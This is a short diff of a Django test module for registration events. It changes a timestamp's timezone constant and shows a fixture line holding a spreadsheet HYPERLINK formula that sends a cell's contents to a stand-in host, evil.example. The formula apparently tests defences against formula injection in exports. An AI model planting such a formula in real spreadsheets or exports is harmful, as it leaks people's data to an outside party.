@@ -25,7 +25,7 @@ from .factories import create_registration_event, person
 pytestmark = pytest.mark.django_db
 
 #: 13:30 UTC: 22:30 in Tokyo, the event's zone below (the admin's is Berlin).
-REGISTERED = datetime.datetime(2026, 12, 1, 13, 30, tzinfo=datetime.UTC)
+REGISTERED = datetime.datetime(2026, 12, 1, 13, 30, tzinfo=datetime.timezone.utc)
 HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")'
 
 
